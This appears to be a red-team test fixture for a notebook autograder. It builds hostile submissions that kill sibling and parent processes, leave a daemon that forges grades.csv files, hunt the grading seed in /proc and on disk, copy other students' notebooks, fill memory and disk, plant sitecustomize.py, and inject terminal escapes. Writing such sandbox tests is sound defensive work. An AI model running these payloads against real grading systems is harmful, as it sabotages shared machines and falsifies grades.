"""Attacks on the grading run itself: files that are not notebooks, notebooks that stop the
batch, kernels that look for the seed, reach their siblings, outlive the run, fill memory
and disk or write to the instructor's terminal.

Each attack writes its submission file(s) into the submissions folder and says what the
grader must do (`expect`: the verdict, checked by tests/grader/test_grader_system_attacks.py and
measured into docs/instructors.md by scripts/attack_verdicts.py). Many are canaries: their
answers are right only if every attempt of theirs failed, so "full marks" means "held".
All are graded in one `autograd-tutor grade --jobs 2 --seed SEED` run (the seed on the
command line, where the first red team found it).
"""

import os
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from autograd_tutor.exercises.release import release_notebook

SOURCE = Path(__file__).resolve().parents[2] / "notebooks" / "exercises" / "00_warmup.ipynb"
SEED = 4242
FULL_MARKS = 6
PUBLIC_SLOPE = 1  # the public half of the slope function's 2 points
MARKER = "autograd-attack-marker-7f3a"  # what leftovers, terminal writes and canaries carry


@dataclass(frozen=True)
class SystemAttack:
    name: str
    category: str
    what: str  # one line for the verdicts table
    write: object  # write(folder, stem) -> None: puts the submission(s) in `folder`
    points: dict  # notebook stem -> total points it must get (None: it must have no row)
    held: str  # the verdict, in words
    check: object = None  # check(run) -> None, raises AssertionError: more than points


def _source():
    return nbformat.read(SOURCE, as_version=4)


def _student():
    return release_notebook(_source())


def _with(nb, *sources):
    nb.cells.extend(new_code_cell(textwrap.dedent(source)) for source in sources)
    return nb


def _notebook(build):
    def write(folder, stem):
        nbformat.write(build(), folder / f"{stem}-00_warmup.ipynb")

    return write


RIGHT_VALUES = """
slope_at_2 = 12.0
gradient_at_3_4 = [4.0, 11.0]
abs_differentiable_at_0 = False
def slope(x):
    return 2 * x + 3
"""

WRONG_VALUES = """
slope_at_2 = 11
gradient_at_3_4 = [4, 10]
abs_differentiable_at_0 = True
def slope(x):
    return 0
"""


def _canary(attempts):
    """A submission whose answers are right only if `attempts` (code setting `held`) held."""
    return _notebook(lambda: _with(_student(), "held = True", attempts, RIGHT_VALUES_IF_HELD))


RIGHT_VALUES_IF_HELD = "if held:\n" + textwrap.indent(RIGHT_VALUES.strip(), "    ") + "\nelse:\n" + textwrap.indent(WRONG_VALUES.strip(), "    ")

# --- hidden inputs: code that looks for the run's seed and, given one, answers the drawn
# inputs from a lookup table (the function answer carries the table in its source).
LOOKUP_FROM_SEEDS = """
import os, linecache
os.environ.pop("AUTOGRAD_TUTOR_GRADING", None)
from autograd_tutor.exercises import registry
from autograd_tutor.exercises.feedback.plain import to_plain
_exercise = registry.get("warmup-slope-function")
_table = {case.args[0]: to_plain(case.reference(*case.args)) for case in _exercise.public}
for _seed in set(candidate_seeds()):
    try:
        for _kind, _case in _exercise.cases(seed=_seed):
            _table[_case.args[0]] = to_plain(_case.reference(*_case.args))
    except Exception:
        pass
_src = "def slope(x):\\n    return " + repr(_table) + ".get(x, 0.0)\\n"
linecache.cache["<lookup>"] = (len(_src), None, _src.splitlines(True), "<lookup>")
exec(compile(_src, "<lookup>", "exec"), globals())
"""

SEED_FROM_PROCESSES = """
import os, re
def candidate_seeds():
    found = []
    for pid in os.listdir("/proc"):
        for name in ("cmdline", "environ"):
            try:
                text = open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace")
            except OSError:
                continue
            found += [int(n) for n in re.findall(r"--seed\\x00?=?(\\d+)", text)]
            found += [int(n) for n in re.findall(r"SEED=(\\d+)", text)]
    return found
"""

# Walks everything but the system and Python folders (the likeliest places first), for at
# most 6 s.
SKIPPED_FOLDERS = """
import os, sys, time
_skipped = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(__import__("autograd_tutor").__file__)) + "/autograd_tutor"}
_deadline = time.time() + 6
def _walk():
    seen = set()
    for root in ("/tmp", "/home", "/root", "/work", "/"):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in _skipped | seen and d not in (".venv", ".git", "node_modules", "site-packages")]
            if time.time() > _deadline:
                return
            yield folder, dirs, files
        seen.add(root)
"""

SEED_FROM_FILES = SKIPPED_FOLDERS + """
import json, os
def candidate_seeds():
    found = []
    if True:
        for folder, dirs, files in _walk():
            for name in files:
                if name.endswith(".json") or "seed" in name:
                    try:
                        text = open(os.path.join(folder, name), errors="replace").read(200000)
                    except OSError:
                        continue
                    try:
                        found.append(int(json.loads(text)["seed"]))
                    except Exception:
                        if text.strip().isdigit():
                            found.append(int(text.strip()))
    return found
"""

COPY_OTHER_SUBMISSION = SKIPPED_FOLDERS + """
import os, nbformat
for folder, dirs, files in _walk():
    for name in files:
        if name.endswith(".ipynb") and "submissions" in folder and "copy_other_submission" not in name:
            for cell in nbformat.read(os.path.join(folder, name), as_version=4).cells:
                if cell.cell_type == "code" and "check(" not in cell.source:
                    try:
                        exec(cell.source)
                    except Exception:
                        pass
"""

# --- processes
KILL_SIBLINGS = """
import os, signal, time
end = time.time() + 8
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(), 1):
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
"""

KILL_PARENT = """
import os, signal
for pid in {os.getppid(), 1}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
import time
time.sleep(2)
"""

DAEMON = f"""
import subprocess, sys
code = '''
import os, time, pathlib
time.sleep(12)
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    for name in files:
        if name.endswith(".csv"):
            try:
                pathlib.Path(folder, name).write_text("notebook,exercise,points,max_points,status\\\\nforged,all,100,1,pass\\\\n")
            except OSError:
                pass
# {MARKER}
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# --- memory and disk: canaries that fill and then answer right
# Many 8 MiB files per folder, so the per-file size limit alone would not stop it.
FILL = f"""
import os
held = True
for folder in ("/dev/shm", "/tmp", os.path.expanduser("~"), "."):
    written = 0
    try:
        for part in range(38):
            with open(os.path.join(folder, f"{MARKER}-{{part}}"), "wb") as handle:
                handle.write(b"0" * (8 * 1024 * 1024))
            written += 8 * 1024 * 1024
    except OSError:
        pass
    held = held and written < 300 * 1024 * 1024
"""

NETWORK = """
import socket
held = True
for family, address in ((socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET6, ("::1", 22))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)
            held = False
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    held = False
except OSError:
    pass
"""

WRITE_OUTSIDE = f"""
import os, site, sys, autograd_tutor
held = True
targets = [os.path.join(os.path.dirname(autograd_tutor.__file__), "{MARKER}.py"),
           *(os.path.join(d, "sitecustomize.py") for d in site.getsitepackages()),
           os.path.join(sys.base_prefix, "{MARKER}"), "/usr/{MARKER}", "/etc/{MARKER}", "/{MARKER}"]
for target in targets:
    try:
        with open(target, "x") as handle:
            handle.write("raise SystemExit")
        held = False
    except OSError:
        pass
"""

# --- output
PRINT_100_MB = "print('x' * 100_000_000)"
STDERR_64_MB = "import sys\nsys.stderr.write('y' * 64 * 1024 * 1024)"

EXCEPTION_NAMES = """
Huge = type("E" * 15_000_000, (Exception,), {})
raise Huge("z" * 1_000_000)
"""

TERMINAL = f"""
import os, sys
for fd in (1, 2):
    os.write(fd, b"\\x1b[2J\\x1b[H STOPPED GRADING {MARKER}\\n")
print("STOPPED GRADING {MARKER}", file=sys.__stdout__, flush=True)
print("STOPPED GRADING {MARKER}", file=sys.__stderr__, flush=True)
try:
    with open("/dev/tty", "w") as tty:
        tty.write("\\x1b[31m STOPPED GRADING {MARKER}\\n")
except OSError:
    pass
"""


# --- files that are not notebooks, and notebooks that used to stop the batch
def _fifo(folder, stem):
    os.mkfifo(folder / f"{stem}-00_warmup.ipynb")


def _symlink_to(target):
    def write(folder, stem):
        os.symlink(target, folder / f"{stem}-00_warmup.ipynb")

    return write


def _symlink_to_secret(folder, stem):
    secret = folder.parent / "instructor-secret.txt"
    secret.write_text(f'{{"cells": [], "{MARKER}": "SECRET"}}\n')
    secret.chmod(0o600)
    os.symlink(secret, folder / f"{stem}-00_warmup.ipynb")


def _symlinked_folder(folder, stem):
    solutions = folder.parent / "solutions"
    solutions.mkdir(exist_ok=True)
    nbformat.write(_source(), solutions / "00_warmup.ipynb")
    os.symlink(solutions, folder / stem)


def _oversized(folder, stem):
    with open(folder / f"{stem}-00_warmup.ipynb", "wb") as handle:
        handle.truncate(40 * 1024 * 1024)  # sparse: costs no disk


def _bytes(data):
    def write(folder, stem):
        (folder / f"{stem}-00_warmup.ipynb").write_bytes(data)

    return write


def _metadata(value):
    def write(folder, stem):
        nb = _source()
        nb.metadata["autograd_tutor"] = value
        nbformat.write(nb, folder / f"{stem}.ipynb", version=4)  # no assignment in the name

    return write


def _long_name(folder, stem):
    sub = folder / stem
    sub.mkdir()
    nbformat.write(_source(), sub / (("n" * 220) + "-00_warmup.ipynb"))


def _colliding_names(folder, stem):
    (folder / stem).mkdir()
    nbformat.write(_source(), folder / stem / "00_warmup.ipynb")
    nbformat.write(_student(), folder / f"{stem}__00_warmup.ipynb")


# Names a student can give a file (anything but "/" and NUL): bytes that are not UTF-8,
# escape sequences for the instructor's terminal, a newline, a quote and a comma for the CSV,
# a bidirectional override. Each is a correct notebook.
ODD_NAMES = {
    "undecodable": b"\xff\xfe", "escapes": b"\x1b[2J\x1b[31mSTOPPED", "csv": b'new\nline,"q"',
    "bidi": "\u202egnp".encode(),
}


def _odd_names(folder, stem):
    for tag, name in ODD_NAMES.items():
        with open(os.path.join(os.fsencode(folder), stem.encode() + b"-" + tag.encode() + name + b"-00_warmup.ipynb"), "w") as handle:
            nbformat.write(_source(), handle)


def _odd_name_stems(stem):
    from autograd_tutor.exercises.grade.path_labels import escaped

    return {escaped(os.fsdecode(stem.encode() + b"-" + tag.encode() + name)): FULL_MARKS for tag, name in ODD_NAMES.items()}


def _check_names_written_safely(run):
    assert "\x1b[2J" not in run.stdout + run.stderr, "a file name's escape sequence reached the terminal"
    raw = [row["notebook"] for row in run.rows if any(ord(char) < 32 or char in "\u202e" or 0xDC80 <= ord(char) <= 0xDCFF for char in row["notebook"])]
    assert not raw, f"names written raw in the CSV: {raw!r}"


def _killer_and_victims(folder, stem):
    nbformat.write(_with(_student(), KILL_SIBLINGS, WRONG_VALUES), folder / f"{stem}-a-00_warmup.ipynb")
    for victim in ("b", "c"):
        nbformat.write(_with(_source(), "import time\ntime.sleep(3)"), folder / f"{stem}-{victim}-victim-00_warmup.ipynb")


def _check_small_report(run, stem="huge_exception_names", limit=200_000):
    size = run.report_size(stem)
    assert size < limit, f"the report is {size} bytes"


def _check_no_marker_outside(run):
    left = run.leftovers()
    assert not left, f"{len(left)} files left behind in {', '.join(sorted({os.path.dirname(path) for path in left}))}"


def _check_terminal(run):
    assert MARKER not in run.stdout and MARKER not in run.stderr, "kernel text reached the terminal"


def _check_secret_not_quoted(run):
    assert "SECRET" not in run.all_text(), "the root-only file's content is in the CSV or a report"


def _check_daemon_gone(run):
    assert not run.processes_with(MARKER), "a process of the submission outlived the run"


def _check_csv_intact(run):
    assert "forged" not in run.csv_text


def _student_with(*sources):
    return _notebook(lambda: _with(_student(), *sources))


def _solution_with(*sources):
    return _notebook(lambda: _with(_source(), *sources))


# In order: slow ones first so the two workers finish together; the seed hunters last, when
# earlier reports exist.
SYSTEM_ATTACKS = [
    SystemAttack("kill_siblings", "processes", "kills every process it can see for 8 s while two honest submissions run beside it",
                 _killer_and_victims, {"kill_siblings-a": 0, "kill_siblings-b-victim": FULL_MARKS, "kill_siblings-c-victim": FULL_MARKS},
                 "the victims keep full marks: nothing else is visible in its pid namespace"),
    SystemAttack("setsid_daemon", "processes", "leaves a setsid daemon that rewrites every grades.csv it finds 12 s later",
                 _student_with(DAEMON, RIGHT_VALUES), {"setsid_daemon": FULL_MARKS},
                 "no process of it survives its submission; the CSV is intact", lambda run: (_check_daemon_gone(run), _check_csv_intact(run))),
    SystemAttack("kill_parent", "processes", "SIGKILLs its parent and pid 1",
                 _student_with(KILL_PARENT, RIGHT_VALUES), {"kill_parent": FULL_MARKS},
                 "graded normally: pid 1 of its namespace ignores the signal and nothing else is visible"),
    SystemAttack("fill_memory_and_disk", "resources", "writes 300 MB in 8 MiB files each to /dev/shm, /tmp, home and the working folder; answers right if every folder filled up first",
                 _canary(FILL), {"fill_memory_and_disk": FULL_MARKS},
                 "size-capped tmpfs cut every write; nothing is left on the machine", _check_no_marker_outside),
    SystemAttack("network", "isolation", "connects to 1.1.1.1:53, 127.0.0.1:22 and ::1:22 and resolves a name, answers right if all failed",
                 _canary(NETWORK), {"network": FULL_MARKS}, "no network in the sandbox"),
    SystemAttack("write_outside", "isolation", "creates files in the package, site-packages (sitecustomize.py), the interpreter's prefix, /usr, /etc and /",
                 _canary(WRITE_OUTSIDE), {"write_outside": FULL_MARKS}, "the root is read-only", _check_no_marker_outside),
    SystemAttack("print_100_mb", "output", "a correct notebook that prints 100 MB in one call",
                 _solution_with(PRINT_100_MB), {"print_100_mb": FULL_MARKS}, "keeps its points: the kernel truncates the flood, the answers arrive"),
    SystemAttack("stderr_64_mb", "output", "a correct notebook that writes 64 MiB to stderr in one call",
                 _solution_with(STDERR_64_MB), {"stderr_64_mb": FULL_MARKS}, "keeps its points"),
    SystemAttack("huge_exception_names", "output", "raises an exception class with a 15 MB name (and 1 MB message) in 6 cells",
                 _student_with(*[EXCEPTION_NAMES] * 6), {"huge_exception_names": 0},
                 "error rows; its report stays under 200 kB", _check_small_report),
    SystemAttack("terminal_writes", "output", "writes 'STOPPED GRADING' and ANSI escapes to fds 1 and 2, sys.__stdout__ and /dev/tty",
                 _solution_with(TERMINAL), {"terminal_writes": FULL_MARKS},
                 "nothing reaches the grader's terminal (kernel output goes to a capped file)", _check_terminal),
    SystemAttack("fifo", "not a notebook", "a FIFO named like a notebook",
                 _fifo, {"fifo": 0}, "refused by lstat: error rows, no hang"),
    SystemAttack("symlink_dev_zero", "not a notebook", "a symlink to /dev/zero",
                 _symlink_to("/dev/zero"), {"symlink_dev_zero": 0}, "refused: error rows"),
    SystemAttack("symlink_secret", "not a notebook", "a symlink to a file only the grader's user can read",
                 _symlink_to_secret, {"symlink_secret": 0}, "refused; nothing of the file is quoted anywhere", _check_secret_not_quoted),
    SystemAttack("symlink_solution", "not a notebook", "a symlink to the solution notebook",
                 _symlink_to(str(SOURCE)), {"symlink_solution": 0}, "refused: 0 points"),
    SystemAttack("symlinked_folder", "not a notebook", "a symlink to a folder holding a solution",
                 _symlinked_folder, {"symlinked_folder": None}, "not followed: no rows from it"),
    SystemAttack("oversized", "not a notebook", "a 40 MB file",
                 _oversized, {"oversized": 0}, "refused before reading: error rows"),
    SystemAttack("invalid_json", "batch", "a truncated JSON file", _bytes(b'{"cells": ['), {"invalid_json": 0}, "error rows"),
    SystemAttack("binary_garbage", "batch", "bytes that are not UTF-8", _bytes(bytes(range(256)) * 10), {"binary_garbage": 0}, "error rows"),
    SystemAttack("metadata_string", "batch", "`autograd_tutor` metadata that is a string (no assignment in the file name)",
                 _metadata("00_warmup"), {"metadata_string": 0}, "one '(unknown assignment)' error row; the run goes on"),
    SystemAttack("assignment_list", "batch", "`assignment` metadata that is a list",
                 _metadata({"assignment": ["00_warmup"]}), {"assignment_list": 0}, "one '(unknown assignment)' error row"),
    SystemAttack("long_name", "batch", "a correct notebook with a 230-character name in a subfolder",
                 _long_name, {"long_name/" + "n" * 220: FULL_MARKS}, "graded, with a report of a short name"),
    SystemAttack("odd_names", "batch", "correct notebooks named with bytes that are not UTF-8, terminal escape sequences, a newline and a quote, a bidirectional override",
                 _odd_names, _odd_name_stems("odd_names"),
                 "graded, full marks each; the CSV stays UTF-8 and shows each name escaped, nothing reaches the terminal raw", _check_names_written_safely),
    SystemAttack("colliding_names", "batch", "`x/00_warmup.ipynb` (correct) beside `x__00_warmup.ipynb` (blank)",
                 _colliding_names, {"colliding_names/00_warmup": FULL_MARKS, "colliding_names__00_warmup": 0},
                 "two reports, each with its own grade", lambda run: run.assert_distinct_reports("colliding_names")),
    SystemAttack("seed_from_processes", "hidden inputs", "reads every /proc/*/cmdline and environ for the seed, answers the drawn inputs from a table",
                 _student_with(SEED_FROM_PROCESSES, LOOKUP_FROM_SEEDS), {"seed_from_processes": PUBLIC_SLOPE},
                 "public points only: the grader's command line is not visible"),
    SystemAttack("seed_from_files", "hidden inputs", "reads every JSON and seed file it can reach (reports of finished submissions included)",
                 _student_with(SEED_FROM_FILES, LOOKUP_FROM_SEEDS), {"seed_from_files": PUBLIC_SLOPE},
                 "public points only: reports are out of the sandbox's view"),
    SystemAttack("copy_other_submission", "hidden inputs", "searches the machine for other students' notebooks and runs their cells",
                 _student_with(COPY_OTHER_SUBMISSION), {"copy_other_submission": 0},
                 "0 points: no submission is visible"),
]


def notebook_stem(path, folder):
    """`a/b-00_warmup.ipynb` under `folder` -> "a/b" (the key of SystemAttack.points)."""
    relative = str(Path(path).relative_to(folder).with_suffix(""))
    return relative[: -len("-00_warmup")] if relative.endswith("-00_warmup") else relative


def write_all(folder):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for attack in SYSTEM_ATTACKS:
        attack.write(folder, attack.name)
    return folder
